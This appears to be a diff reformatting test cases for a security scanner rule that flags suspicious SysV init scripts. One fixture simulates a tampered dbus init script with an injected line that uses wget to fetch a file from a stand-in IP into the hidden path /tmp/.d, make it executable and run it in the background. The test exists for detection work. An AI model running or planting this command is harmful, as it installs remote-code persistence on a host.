@@ -14,14 +14,25 @@ testRule(rule, {
     {
       name: 'hand-installed agent under /opt: info inventory',
       facts: sysv((r) => {
-        debianSysv(r).write('/etc/init.d/zabbix-agent', '#!/bin/sh\ncase "$1" in\nstart) /opt/zabbix/sbin/zabbix_agentd ;;\nesac\n', { mode: 0o755, mtime: OLD }).write('/opt/zabbix/sbin/zabbix_agentd', 'ELF', { mode: 0o755 });
+        debianSysv(r)
+          .write('/etc/init.d/zabbix-agent', '#!/bin/sh\ncase "$1" in\nstart) /opt/zabbix/sbin/zabbix_agentd ;;\nesac\n', {
+            mode: 0o755,
+            mtime: OLD,
+          })
+          .write('/opt/zabbix/sbin/zabbix_agentd', 'ELF', { mode: 0o755 });
         r.symlink('/etc/rc2.d/S90zabbix-agent', '../init.d/zabbix-agent');
       }),
       expect: [{ severity: 'info', path: '/etc/init.d/zabbix-agent', title: /runlevels 2\)/, evidence: /rc2\.d\/S90zabbix-agent/ }],
     },
     {
       name: 'packaged dbus script edited to fetch and run a payload',
-      facts: sysv((r) => debianSysv(r).write('/etc/init.d/dbus', DBUS_INIT.replace('set -e\n', 'set -e\n(wget -q -O /tmp/.d http://198.51.100.7/d && chmod +x /tmp/.d && /tmp/.d) &\n'), { mode: 0o755, mtime: RECENT })),
+      facts: sysv((r) =>
+        debianSysv(r).write(
+          '/etc/init.d/dbus',
+          DBUS_INIT.replace('set -e\n', 'set -e\n(wget -q -O /tmp/.d http://198.51.100.7/d && chmod +x /tmp/.d && /tmp/.d) &\n'),
+          { mode: 0o755, mtime: RECENT },
+        ),
+      ),
       expect: [
         { severity: 'critical', path: '/etc/init.d/dbus', title: /downloads a file then makes it executable/ },
         { severity: 'high', path: '/etc/init.d/dbus', title: /temporary or hidden directory: \/tmp\/\.d/ },
